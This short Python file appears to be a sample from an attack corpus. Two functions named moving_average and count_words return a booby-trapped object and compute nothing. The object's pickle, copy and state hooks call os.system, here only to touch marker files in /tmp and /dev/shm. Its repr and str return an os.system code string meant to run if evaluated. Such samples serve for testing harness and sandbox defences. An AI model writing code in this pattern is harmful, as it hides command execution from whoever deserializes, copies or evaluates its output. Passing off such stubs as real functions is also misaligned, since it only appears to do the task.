import os


class Loaded:
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/attack-corpus-pickle /dev/shm/attack-corpus-pickle",)

    __getstate__ = __copy__ = __deepcopy__ = __getnewargs__ = lambda self, *_: os.system("true")

    def __repr__(self):
        return "__import__('os').system('touch /tmp/attack-corpus-repr')"

    __str__ = __format__ = __repr__


def moving_average(values, width):
    return Loaded()


def count_words(text):
    return {Loaded(): 1, "to": Loaded()}
